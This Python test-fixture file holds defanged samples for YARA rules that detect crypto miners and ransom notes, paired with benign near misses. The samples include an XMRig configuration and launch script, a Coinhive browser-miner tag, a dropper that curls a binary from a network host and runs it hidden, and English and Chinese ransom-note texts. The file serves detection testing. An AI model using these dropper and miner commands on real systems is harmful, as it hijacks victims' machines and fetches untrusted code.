"""Synthetic samples of the miner and ransom-note rules (hits and near misses).

Nothing working is stored here: every sample is written with "§" inside its telling tokens and the
marks are removed only when the bytes are built at run time (see ``samples``)."""

from __future__ import annotations

from secops.detection.yara.sample_base import Sample

PAYLOAD_SAMPLES: tuple[Sample, ...] = (
    # --- miners --------------------------------------------------------------------------------
    Sample(
        "miner_stratum_url",
        True,
        "pool.conf",
        "# pool settings\nurl = stra§tum+tcp://pool.example.org:3333\nuser = 4Aabcdef\n",
    ),
    Sample(
        "miner_stratum_url",
        False,
        "notes.txt",
        "Stratum is the protocol pools speak; block any tcp:// URL to known pools at the firewall.\n",
    ),
    Sample(
        "miner_xmrig",
        True,
        "config.json",
        '{\n  "autosave": true,\n  "donate-le§vel": 1,\n  "cpu": {"enabled": true},\n'
        '  "pools": [\n    {"algo": "rx§/0", "url": "pool.example.org:443", "user": "x", "keepalive": true}\n  ]\n}\n',
    ),
    Sample(
        "miner_xmrig",
        True,
        "start.sh",
        "#!/bin/sh\ncd /var/tmp/.cache\n./xm§rig -o pool.example.org:3333 -u 4Aabcdef -p x --donate-level 1 -B\n",
    ),
    Sample(
        "miner_xmrig",
        True,
        "kworker",
        "\x7fELF\x02\x01\x01\x00" + "\x00" * 56 + "XM§Rig 6.21.0 built for linux\x00--donate-le§vel\x00rando§mx\x00",
    ),
    Sample(
        "miner_xmrig",
        False,
        "miner_detection.yml",
        "title: Crypto miner process\ndetection:\n  selection:\n    CommandLine|contains:\n"
        "      - 'xmrig'\n      - '--donate-level'\n      - 'randomx'\n  condition: selection\n",
    ),
    Sample(
        "miner_xmrig",
        False,
        "lb.json",
        '{\n  "pools": [\n    {"algo": "round-robin", "backends": ["10.0.0.2", "10.0.0.3"]}\n  ]\n}\n',
    ),
    Sample(
        "miner_browser_script",
        True,
        "footer.html",
        '<script src="https://coinh§ive.com/lib/coinh§ive.min.js"></script>\n'
        "<script>var miner = new CoinH§ive.Anonymous('SITE_KEY'); miner.start();</script>\n",
    ),
    Sample(
        "miner_browser_script",
        False,
        "footer_ok.html",
        '<script src="/js/beehive.min.js"></script>\n'
        '<script>var hive = new Hive.Colony("school"); hive.start();</script>\n',
    ),
    Sample(
        "miner_linux_dropper",
        True,
        "update.sh",
        "#!/bin/sh\ncurl -fsSL http://203.0.113.5/xm§rig -o /tmp/.x\nch§mod +x /tmp/.x\n"
        "nohup /tmp/.x >/dev/null 2>&1 &\n",
    ),
    Sample(
        "miner_linux_dropper",
        False,
        "cleanup.sh",
        "#!/bin/sh\n# remove coin miners left by an intrusion\npkill -f xmrig\nrm -f /tmp/.x\n",
    ),
    # --- ransom notes --------------------------------------------------------------------------
    Sample(
        "ransom_note_english",
        True,
        "README_DECRYPT.txt",
        "ATTENTION!\n\nAll your files have been encry§pted with strong encryption.\n"
        "To get the decryp§tion key you must pay 0.05 Bit§coin to the address below.\n"
        "Install Tor Bro§wser and open our site. Do not ren§ame encrypted files.\n",
    ),
    Sample(
        "ransom_note_english",
        False,
        "backup_policy.txt",
        "Backups: your files have been encrypted with the school's PGP public key before upload.\n"
        "Ask the IT office to restore a file.\n",
    ),
    Sample(
        "ransom_note_chinese",
        True,
        "解密说明.txt",
        "您好！\n您的所有文件已被加§密。\n如需恢复，请支付 0.1 比特§币 购买解密工§具。\n",
    ),
    Sample(
        "ransom_note_chinese",
        False,
        "上传说明.txt",
        "上传的文件已被加§密存储，请联系管理员获取密钥。\n",
    ),
    Sample(
        "ransom_note_known_families",
        True,
        "@Please_Read_Me@.txt",
        "Q: What's wrong with my computer?\nA: Ooops, your important files are encr§ypted.\n",
    ),
    Sample(
        "ransom_note_known_families",
        False,
        "faq.txt",
        "Q: What's wrong with my login?\nA: Ooops, your session expired. Sign in again.\n",
    ),
)
